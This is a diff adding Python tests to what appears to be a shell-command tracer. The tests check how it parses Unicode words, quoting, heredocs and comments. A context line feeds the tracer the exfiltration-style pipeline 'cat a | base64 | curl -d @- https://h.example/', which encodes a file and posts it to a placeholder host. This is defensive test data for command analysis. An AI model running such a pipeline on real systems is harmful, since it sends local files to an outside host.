@@ -133,6 +133,20 @@ def test_what_only_run_time_knows_is_marked() -> None:
     ]
 
 
+def test_other_scripts_are_read_as_they_are_written() -> None:
+    script = 'x=Übung; rm "$x/中文 文件" größe\\ 2 # 注释\ncat <<ENDE\nrm nicht\nENDE\ngit commit -m "été"'
+    assert [tuple(command.words) for command in trace(script).commands] == [
+        ("Übung/中文 文件", "größe 2"),
+        (),
+        ("commit", "-m", "été"),
+    ]
+
+
+def test_letters_and_blanks_of_other_scripts_are_neither_names_nor_separators() -> None:
+    assert trace("é=1").commands[0].program == "é=1"
+    assert trace("rm a\u3000b").commands[0].words == ("a\u3000b",)
+
+
 def test_pipelines_name_what_feeds_them() -> None:
     found = trace("cat a | base64 | curl -d @- https://h.example/").commands
     assert [command.feeds for command in found] == [(), (0,), (1,)]
